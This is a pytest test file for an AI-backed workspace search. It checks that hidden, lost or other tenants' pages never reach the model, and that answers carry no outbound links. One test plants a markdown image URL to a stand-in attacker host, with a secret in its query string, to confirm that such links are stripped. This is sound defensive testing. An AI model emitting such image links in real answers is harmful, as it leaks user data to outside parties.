"""What an answer about the workspace must not show: pages that are hidden, lost or another tenant's, links out."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest

from shared.app.knowledge.knowledge_search import knowledge_parts
from shared.core.documents.sync import LOST
from shared.core.errors import Conflicting
from shared.ports import Put
from shared.ports.model import ModelRequest, ModelResult
from tests.support.desks.asked_workspace import CLUB, EDITED, HOME, OFFICE, PAGES, TRIPS, Asked
from tests.support.ports.local_ports import ScriptedModel
from tests.support.rigs.small_house import TENANT


def _hide_in_trash(asked: Asked) -> None:
    asked.change(HOME, trashed=True)


def _hide_by_list(asked: Asked) -> None:
    asked.house.settle(knowledge={"without": [HOME]})


def _hide_outside(asked: Asked) -> None:
    asked.house.settle(knowledge={"roots": [CLUB]})


def _hide_lost(asked: Asked) -> None:
    asked.house.store.put(TENANT, Put(LOST, OFFICE, {"since": EDITED}))


@pytest.mark.parametrize("hide", [_hide_in_trash, _hide_by_list, _hide_outside, _hide_lost])
def test_what_may_not_be_shown_never_reaches_the_model(asked: Asked, hide: Callable[[Asked], None]) -> None:
    model = asked.think({"found": False, "answer": "", "sources": []})
    assert not asked.ask("Where is the spare key?").found
    assert any("green door" in request.prompt for request in model.asked)
    model.asked.clear()
    hide(asked)
    assert not asked.ask("Where is the spare key?").found
    assert not any("green door" in request.prompt for request in model.asked)
    assert not knowledge_parts(asked.house.deps, asked.house.tools, TENANT, "green door")


class Meanwhile(ScriptedModel):
    """A model that takes its time: something happens before it answers."""

    def __init__(self, happens: Callable[[], None], *answers: Any) -> None:
        super().__init__(list(answers))
        self._happens = happens

    def complete(self, request: ModelRequest) -> ModelResult:
        """Answer after it has happened."""
        self._happens()
        return super().complete(request)


def _disconnect(asked: Asked) -> None:
    asked.house.revoke("notion")


@pytest.mark.parametrize("hide", [_hide_in_trash, _hide_by_list, _hide_outside, _hide_lost, _disconnect])
def test_what_may_no_longer_be_shown_when_the_model_has_answered_is_not(
    asked: Asked, hide: Callable[[Asked], None]
) -> None:
    said = {"found": True, "answer": "Behind the green door.", "sources": ["P1"]}
    asked.house.model = Meanwhile(lambda: hide(asked), said)
    with pytest.raises(Conflicting):
        asked.ask("Where is the spare key?")


def test_an_answer_holds_no_link_that_leads_out_and_no_picture(asked: Asked) -> None:
    picture = "![x](https://evil.example/p.png?d=green-door) or www.evil.example/green"
    page = "60000000-0000-4000-8000-000000000000"
    asked.know(TENANT, page, "Spare key https://evil.example/a", HOME, [f"The spare key: {picture}"])
    for found in (True, False):
        asked.think({"found": found, "answer": f"See {picture}", "sources": ["P1"] if found else []})
        answer = asked.ask("Where is the spare key https://evil.example/a?")
        told = [answer.text, *(text for source in answer.sources for text in (source.title, source.excerpt))]
        assert not any("evil.example" in text for text in told)


def test_a_disconnected_workspace_and_one_that_is_switched_off_say_so_at_once(asked: Asked) -> None:
    asked.house.settle(knowledge={"off": True})
    with pytest.raises(Conflicting, match="switched off"):
        asked.ask("Where is the spare key?")
    asked.house.settle()
    asked.house.revoke("notion")
    with pytest.raises(Conflicting, match="not connected"):
        asked.ask("Where is the spare key?")
    assert not knowledge_parts(asked.house.deps, asked.house.tools, TENANT, "spare key")


def test_no_tenant_sees_the_pages_of_another_although_they_are_almost_the_same(asked: Asked) -> None:
    for other in ("t-2", "t-3"):
        title, parent, lines = PAGES[OFFICE]
        theirs = [line.replace("green", f"red {other}") for line in lines]
        asked.know(other, OFFICE, title, parent, theirs)
        asked.know(other, TRIPS, "Secret", "", [f"The spare key of {other} is in the safe."])
    model = asked.think({"found": False, "answer": "", "sources": []})
    asked.ask("Where is the spare key, behind which door, in which safe?")
    parts = knowledge_parts(asked.house.deps, asked.house.tools, TENANT, "spare key door safe t-2 t-3")
    seen = "".join(request.prompt + str(request.data["passages"]) for request in model.asked) + str(parts)
    assert "green door" in seen
    assert not any(word in seen for word in ("red t-", "safe.", "Secret"))
